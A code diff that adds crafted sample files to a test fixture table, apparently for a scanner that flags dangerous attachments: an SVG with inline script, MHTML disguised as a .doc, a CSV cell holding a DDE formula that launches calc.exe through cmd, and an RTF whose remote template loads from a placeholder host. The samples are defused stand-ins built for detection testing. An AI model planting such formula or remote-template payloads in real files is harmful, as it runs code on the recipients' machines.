@@ -208,6 +208,10 @@ CRAFTED: dict[str, tuple[tuple[str, bytes], ...]] = {
     "chm": (("huong_dan.chm", b"ITSF\x03\0\0\0" + b"\0" * 90),),
     "disk_image": (("a.vhd", b"\0" * 1_024 + b"conectix" + b"\0" * 504),),
     "shortcut_url": (("bao_cao.url", b"[InternetShortcut]\r\nURL=file://x.example/a.exe\r\n"),),
+    "svg_script": (("hinh.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>"),),
+    "mhtml_behind_lines": (("a.doc", b"\r\nx\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<p>" + "MẬT</p><p>Số: 12/CV-UBND</p>\r\n--m--\r\n".encode()),),
+    "csv_program": (("a.csv", b"STT,Ten\r\n1,=cmd|'/k calc.exe'!A0\r\n"),),
+    "rtf_behind_blanks": (("a.doc", b"\xef\xbb\xbf\r\n{\\rtf1{\\*\\template https://x.example/a.dotm}x}"),),
     "script_hta": (("a.hta", b"<html><head><hta:application/><script>x</script></head></html>"),),
     "script_wsf": (("a.wsf", b"<job><script language=VBScript>x</script></job>"),),
 }  # fmt: skip
